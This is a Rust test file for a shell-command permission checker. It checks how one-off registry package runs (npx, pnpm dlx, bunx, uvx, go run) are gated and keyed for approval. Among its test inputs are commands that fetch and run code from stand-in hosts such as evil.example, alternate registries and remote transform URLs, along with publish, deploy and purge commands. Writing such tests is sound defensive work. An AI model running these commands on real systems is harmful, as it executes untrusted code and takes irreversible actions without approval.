//! A package fetched from the public registries and run once (`go run MOD@VERSION`, `npx
//! PKG@VERSION`, `yarn dlx PKG`, `pnpm dlx`, `bunx`, `uvx`, `pipx run`) is asked once under its
//! own name: it runs a stranger's code on the project at once, which a yes to the project's
//! work does not cover, nor a yes to another such package. The well-known project tools run
//! this way (Electron's, the extension tools', the codemods of the project's code) are the
//! exception: their everyday commands are the project's family, as their install as a
//! dependency is. Dangerous words, another registry or source keep their rows.

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, always_ask};

const ADD_DEPENDENCY: &str = "registry add dependency";

#[test]
fn registry_packages_run_once_are_each_their_own_question() {
    let runs = [
        "go run github.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.1 run ./...",
        "go run golang.org/x/vuln/cmd/govulncheck@latest ./...",
        "pnpm dlx create-vite my-app --template react-ts",
        "npx cowsay@1.6.0 hello",
        "npx rn-camera-permissions-fixer@latest --apply",
        "bunx some-tool@2 check src",
        "uvx pycowsay hello",
        "pipx run cookiecutter-lint .",
    ];
    let mut grants = Vec::new();
    for s in runs {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), Some(ADD_DEPENDENCY), "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
        grants.push(v.grant);
    }
    // A yes to one package never covers another: each is keyed by its own name, or by the
    // call itself (no grant).
    let named: Vec<_> = grants.iter().flatten().collect();
    let mut distinct = named.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), named.len(), "{grants:?}");
}

/// Issue 21: the everyday commands of well-known node project tools run from the registry, any
/// command of a known codemod, and electron-builder told never to publish are the project's
/// family, in every runner's spelling; a stranger's package, a package from a git repository, a
/// URL or a path, and these tools' publishing, destroying and credential words never are.
#[test]
fn well_known_node_project_tools_are_the_projects() {
    for s in [
        "npx electron-vite preview",
        "npx electron-vite build",
        "npx electron --version",
        "npx web-ext lint --source-dir dist-firefox",
        "pnpm dlx web-ext build",
        "xvfb-run -a npx vscode-test --label integration",
        "npx @vscode/vsce package --no-dependencies -o shipdeck-0.14.0.vsix",
        "npx electron-forge make",
        "npx electron-builder --mac zip --publish never",
        "npx electron-builder --linux -p never",
        "npx electron-builder --win --publish=never",
        "pnpm dlx @next/codemod@canary upgrade latest --dry",
        "yarn dlx @next/codemod@latest next-async-request-api . --dry",
        "npx codemod@latest react/19/migration-recipe --target packages/ui/src",
        "npx types-react-codemod@latest preset-19 apps/web/src",
        "pnpm dlx @eslint/migrate-config .eslintrc.cjs",
        "bunx jscodeshift -t transform.ts src",
        "npx -p jscodeshift jscodeshift -t transform.ts src",
        "npx -p @tailwindcss/upgrade upgrade",
        // The frameworks' own upgrade tools and MUI's codemods, by their scoped packages.
        "pnpm dlx @astrojs/upgrade",
        "npx @astrojs/upgrade@latest beta",
        "pnpm dlx @tailwindcss/upgrade --force",
        "npx @tailwindcss/upgrade@latest",
        "yarn dlx @tailwindcss/upgrade",
        "bunx @tailwindcss/upgrade",
        "npm exec -- @tailwindcss/upgrade",
        "npx @mui/codemod@latest v5.0.0/preset-safe src",
    ] {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
        assert_eq!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
    }
    for s in [
        "pnpm dlx next15-fixer-pro@latest --all .",
        "npx some-tool test",
        "bunx some-tool@2 check src",
        "npx github:acme/electron-vite build",
        "npx -p git+https://github.com/x/web-ext web-ext lint",
        "npx ./tools/codemod.tgz upgrade",
        "npx web-ext sign",
        "npx electron-builder --publish always",
        "npx electron-builder --mac -p never -p always",
        "npx electron-builder --mac --publish=onTag",
        "npx kubectl get pods",
        // A codemod or project tool is curated by its package: another scope's package, or
        // an unscoped one, with the same bin is a stranger's.
        "npx @someone/codemod upgrade",
        "npx @someone/upgrade",
        "pnpm dlx upgrade --force",
        "npx @tailwind/upgrade",
        "npx @someone/electron-vite build",
        "npx -p @someone/codemod codemod upgrade",
        "npx github:tailwindlabs/upgrade",
        // Another program beside a codemod's package, or a transform from the web, is not
        // the codemod (found in review).
        "npx -p @next/codemod some-bin --all",
        "npx --package=@next/codemod some-bin",
        "npm exec --package=@next/codemod -- some-bin",
        "pnpm dlx --package=jscodeshift some-bin",
        "npx -p codemod some-bin",
        "npx -p @tailwindcss/upgrade some-bin",
        "npx jscodeshift -t https://example.net/transform.js src",
        "bunx jscodeshift --transform=https://example.net/t.js src",
    ] {
        let v = judge(s, &ENV);
        assert!(v.level >= Level::AskOnce, "{s}: {}", v.row);
        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
    }
    always_ask(&[
        "npx electron-vite deploy",
        "npx @vscode/vsce publish",
        "npx @vscode/vsce login acme",
        "pnpm dlx @next/codemod publish",
        "npx codemod@latest login",
        "npx web-ext --purge",
        "npx electron-forge publish",
        "pnpm dlx @astrojs/upgrade publish",
        "npx @tailwindcss/upgrade --purge",
        "npx @mui/codemod@latest login",
    ]);
}

#[test]
fn dangerous_neighbours_of_registry_runs_still_ask() {
    always_ask(&[
        // Publishing, deploying, destroying and credentials, by a package no table knows.
        "npx some-cli@latest publish",
        "yarn dlx some-cli deploy --prod",
        "npx some-cli@1 --purge",
        "pnpm dlx some-cli delete-all",
        "npx kysely migrate:rollback --all",
        // Another registry or module proxy.
        "GOPROXY=https://proxy.evil.example go run example.com/tool@v1.0.0",
        // A known program's dangerous row through the runner.
        "npx vercel --prod",
        "uvx twine upload dist/*",
        "go run github.com/acme/tools/cmd/release@v1.2.0 publish --all",
        "go run github.com/pressly/goose/v3/cmd/goose@latest reset",
    ]);
    // A module or package from a URL, a path or git is not a registry's: not the family.
    for s in [
        "npx github:someone/tool",
        "npx https://evil.example/tool.tgz",
        "uvx --from git+https://github.com/x/y y",
        "npx ./local-tool",
        "npx --registry https://npm.evil.example some-tool@1",
    ] {
        let v = judge(s, &ENV);
        assert_ne!(v.grant.as_deref(), Some(ADD_DEPENDENCY), "{s}: {}", v.row);
        assert_ne!(v.level, Level::Allow, "{s}: {}", v.row);
    }
}

/// Issue 21: a package's bin is keyed by the package, never by its last part alone: a yes to
/// `npx @arethetypeswrong/cli` is no yes to another scope's `cli`, nor to an unscoped `cli`,
/// and two bins of one package given by `-p` are two keys; repeats of one package share one.
#[test]
fn scoped_packages_are_keyed_by_their_scope() {
    let key = |s: &str| {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {v:?}");
        v.grant.unwrap_or_else(|| panic!("{s} has no grant"))
    };
    let same = [
        "npx @arethetypeswrong/cli --pack .",
        "npx --yes @arethetypeswrong/cli --pack packages/api-client",
        "pnpm dlx @arethetypeswrong/cli --pack .",
    ];
    let first = key(same[0]);
    assert!(first.contains("@arethetypeswrong/cli"), "{first}");
    for s in &same[1..] {
        assert_eq!(key(s), first, "{s}");
    }
    let others = [
        "npx @evil/cli --pack .",
        "npx -y @someone/cli build",
        "bunx @other/cli check",
        "npx -p @x/tools mytool build",
        "npx -p @x/tools othertool build",
    ];
    let mut keys = vec![first];
    for s in others {
        let k = key(s);
        assert!(!keys.contains(&k), "{s} shares the key `{k}`");
        keys.push(k);
    }
    // Their destroying and publishing words still always ask.
    always_ask(&[
        "npx @arethetypeswrong/cli publish",
        "npx @evil/cli deploy --prod",
    ]);
}
